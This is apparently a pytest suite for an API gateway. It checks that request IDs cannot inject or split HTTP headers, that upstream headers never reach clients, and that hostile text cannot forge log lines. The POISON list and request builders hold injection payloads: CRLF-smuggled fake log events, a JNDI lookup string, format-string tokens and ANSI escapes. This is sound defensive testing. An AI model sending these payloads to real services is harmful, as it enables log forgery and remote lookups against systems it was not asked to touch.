"""What is said again: what comes back in headers, and what text from outside does to the logs."""

import json
import re
import socket
from typing import Any

import grpc
import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests import observe, upstream
from tests.live import OPENAI, PATHS, RPC_TIMEOUT_S, Key, Live
from tollgate.authz.v1 import authz_pb2

EXAMPLES = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
KNOWN_HEADERS = {
    "allow", "cache-control", "connection", "content-length", "content-type", "date", "request-id",
    "retry-after", "retry-after-ms", "transfer-encoding", "x-accel-buffering", "x-request-id",
    "x-should-retry", "x-tollgate-budget-remaining-usd", "x-tollgate-cost-usd",
    "x-tollgate-receipt", "x-tollgate-route", "x-tollgate-trace-id",
    "x-tollgate-usage-input-tokens", "x-tollgate-usage-output-tokens",
}  # fmt: skip
ECHOED = re.compile(rb"[A-Za-z0-9_-]{1,64}")


@pytest.fixture(scope="module")
def key(live: Live) -> Key:
    return live.key(live.tenant())


def exchange(live: Live, request: bytes) -> bytes:
    """All that the listener says to some bytes, until it closes or is silent."""
    host, _, port = live.api_urls[0].removeprefix("http://").rpartition(":")
    with socket.create_connection((host, int(port)), 5) as client:
        client.sendall(request)
        client.shutdown(socket.SHUT_WR)
        got = b""
        while part := client.recv(65536):
            got += part
    return got


def heads(answer: bytes) -> list[tuple[bytes, bytes]]:
    """(name, value) of each header line, split as a strict reader splits."""
    lines = answer.partition(b"\r\n\r\n")[0].split(b"\r\n")[1:]
    return [(name, value.lstrip(b" ")) for name, _, value in (x.partition(b":") for x in lines)]


def check_head(answer: bytes) -> dict[str, bytes]:
    """One response; only headers of ours; nothing in them that ends a line."""
    assert 1 == len(re.findall(rb"HTTP/1\.[01] [0-9]{3}", answer))
    found = heads(answer)
    names = [name.decode("ascii").lower() for name, _ in found]
    assert set() == set(names) - KNOWN_HEADERS
    assert len(names) == len(set(names))
    assert not re.search(rb"[\x00-\x08\x0a-\x1f\x7f-\xff]", b"".join(v for _, v in found))
    return dict(zip(names, (value for _, value in found), strict=True))


@EXAMPLES
@given(value=st.binary(max_size=80) | st.text(max_size=70).map(lambda t: t.encode()))
def test_trust_05_a_request_id_is_echoed_only_when_it_is_plain(live: Live, key: Key, value: bytes):
    """Any bytes as x-request-id: no header is injected, none is split, one response."""
    answer = exchange(
        live,
        b"GET /v1/models HTTP/1.1\r\nhost: x\r\nauthorization: Bearer %b\r\nconnection: close\r\n"
        b"x-request-id: %b\r\n\r\n" % (key.text.encode(), value),
    )
    head = check_head(answer)
    if not answer.startswith(b"HTTP/1.1 200"):
        return
    # White space around a value is not part of it: RFC 9110 section 5.5.
    value = value.strip(b" \t")
    if ECHOED.fullmatch(value):
        assert value == head["x-request-id"] == head["request-id"]
    else:
        assert head["x-request-id"] == head["x-tollgate-trace-id"]


@EXAMPLES
@given(value=st.text(max_size=40), name=st.sampled_from(["model", "user", "stream", "n"]))
def test_trust_05_no_text_of_a_body_stands_in_a_header(live: Live, key: Key, value: str, name: str):
    """Text in any member that errors are about never leaves in a header."""
    marked = f"mark\r\nx-evil: {value}\r\n"
    body = {"model": "m", "max_tokens": 5, "messages": [], name: marked}
    answer = httpx.post(
        live.api_urls[0] + PATHS[OPENAI],
        content=json.dumps(body, ensure_ascii=True).encode(),
        headers={"authorization": f"Bearer {key.text}"},
    )
    assert set() == set(answer.headers) - KNOWN_HEADERS
    assert "mark" not in str(answer.headers)


def test_trust_05_no_header_of_an_upstream_reaches_a_client(
    live: Live, key: Key, scripted: upstream.Upstream, publish
):
    """An upstream's headers stay with it, those that look like ours, too."""
    extra = (
        b"set-cookie: a=b\r\nx-request-id: evil\r\nx-tollgate-cost-usd: 0\r\nlocation: http://x/\r\n"
        b"server: evil\r\nx-should-retry: true\r\nx-tollgate-route: evil\r\nwww-authenticate: x\r\n"
        b"x-ratelimit-remaining-requests: 1\r\nanthropic-ratelimit-requests-remaining: 1\r\n"
    )
    usage = {"prompt_tokens": 5, "completion_tokens": 5}
    whole = {"id": "x", "object": "chat.completion", "choices": [], "usage": usage}
    names = ("headers-200", "headers-400", "headers-500", "headers-stream")
    error = b'{"error": {"message": "no"}}'
    scripted.scripts["headers-200"] = [upstream.whole(json.dumps(whole).encode(), extra)]
    for status in (400, 500):
        answer = upstream.whole(error, extra).replace(b"200 OK", b"%d Evil\x08" % status)
        scripted.scripts[f"headers-{status}"] = [answer.replace(b"\x08", b"")]
    scripted.scripts["headers-stream"] = [upstream.STREAM_HEAD % extra + b"data: [DONE]\n\n"]
    for name, model in publish(*names).items():
        answer = live.call(key, model, stream=name.endswith("stream"))
        assert set() == set(answer.headers) - KNOWN_HEADERS
        assert "evil" not in str(answer.headers).lower()


# ---- the logs ------------------------------------------------------------------------------------

SERVICES = ("edge-api", "edge-api-2", "authz", "budget", "router", "audit")
FORGED = '{"event":"call","forged":true}'
POISON = (
    f"x\n{FORGED}", f"x\r\n{FORGED}\r\n", f"x\u2028{FORGED}\u2029", f"x\x85{FORGED}", "\x1b[2J\x1b[31m",
    "${jndi:ldap://x.example/a}", "%s%n%x{0}{}", '"},{"event":"call"', "\\u000a", "\x00\x08\x7f",
    "\u202e\u200b\ufeff", "x" * 100_000,
)  # fmt: skip


def lines(live: Live) -> dict[str, list[dict[str, Any]]]:
    """Every log line of every service, parsed: a line that is no JSON object fails here."""
    found = {}
    for name in SERVICES:
        text = live.suite.home.log(name).read_text(encoding="utf-8")
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f\x85\u2028\u2029]", text)
        found[name] = [json.loads(line) for line in text.split("\n") if line]
        assert all("event" in line and "time_unix_ms" in line for line in found[name])
    return found


def calls(live: Live) -> int:
    return sum(line["event"] == "call" for name in SERVICES[:2] for line in lines(live)[name])


def poisoned(model: str, poison: str) -> list[dict[str, Any]]:
    """Bodies with the poison in every member that a refusal may be about."""
    good = {"model": model, "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}]}
    return [
        {**good, "model": poison},
        {**good, "user": poison},
        {**good, poison: 1},
        {**good, "stream": poison},
        {**good, "n": poison},
        {**good, "messages": [{"role": poison, "content": poison}]},
        {**good, "service_tier": poison},
    ]


def test_trust_24_text_of_clients_makes_no_log_line(live: Live, key: Key):
    """Newlines, ANSI, separators and templates everywhere: each line parses, one a call."""
    model = live.model("demo-gpt")
    before, made = calls(live), 0
    for poison in POISON:
        for body in poisoned(model, poison):
            httpx.post(
                live.api_urls[made % 2] + PATHS[OPENAI],
                content=json.dumps(body).encode(),
                headers={"authorization": f"Bearer {key.text}"},
            )
            made += 1
        for request in heads_with(poison.encode()[:4000], key):
            exchange(live, request)
    assert before + made == calls(live)
    assert not any("forged" in line for each in lines(live).values() for line in each)


def heads_with(poison: bytes, key: Key) -> list[bytes]:
    """Requests to routes without a log line of their own, poisoned in path and headers."""
    rest = b"host: x\r\nconnection: close\r\nauthorization: Bearer " + key.text.encode()
    return [
        b"GET /%b HTTP/1.1\r\n%b\r\n\r\n" % (poison, rest),
        b"GET /v1/receipts/%b HTTP/1.1\r\n%b\r\n\r\n" % (poison, rest),
        b"GET /v1/models HTTP/1.1\r\nuser-agent: %b\r\n%b\r\n\r\n" % (poison, rest),
        b"GET /v1/models HTTP/1.1\r\nx-request-id: %b\r\n%b\r\n\r\n" % (poison, rest),
        b"GET /v1/models HTTP/1.1\r\n%b: x\r\n%b\r\n\r\n" % (poison, rest),
        b"%b / HTTP/1.1\r\n%b\r\n\r\n" % (poison, rest),
    ]


def test_trust_24_text_of_operators_makes_no_log_line(live: Live):
    """The same in names of tenants and keys and in reasons: refused or escaped."""
    tenant = live.tenant()
    for poison in POISON:
        for make in (
            lambda p: live.authz_admin.CreateTenant(
                authz_pb2.CreateTenantRequest(request_id=live.name("req"), name=p),
                timeout=RPC_TIMEOUT_S,
            ),
            lambda p: live.key(tenant, group_id=p),
            lambda p: live.key(tenant, allowed_models=[p]),
            lambda p: live.key(tenant, ip_allowlist=[p]),
            lambda p: live.authz_admin.RevokeKey(
                authz_pb2.RevokeKeyRequest(
                    request_id=live.name("req"), key_id=live.key(tenant).key_id, reason=p
                ),
                timeout=RPC_TIMEOUT_S,
            ),
        ):
            try:
                make(poison)
            except grpc.RpcError as refused:
                assert grpc.StatusCode.INTERNAL != refused.code()  # noqa: PT017
                assert FORGED not in str(refused.details())  # noqa: PT017
    assert lines(live)


def test_trust_24_text_of_an_upstream_makes_no_log_line(
    live: Live, key: Key, scripted: upstream.Upstream, publish
):
    """An upstream's words in body and status line are in no log line at all."""
    names = [f"poison-{n}" for n in range(len(POISON))]
    models = publish(*names)
    for name, poison in zip(names, POISON, strict=True):
        body = json.dumps({"error": {"message": poison, "code": poison, "param": poison}}).encode()
        scripted.scripts[name] = [upstream.whole(body).replace(b"200 OK", b"400 x")]
        answer = live.call(key, models[name])
        assert 400 == answer.status_code
        observe.error_of(answer)
    assert not any("forged" in line for each in lines(live).values() for line in each)
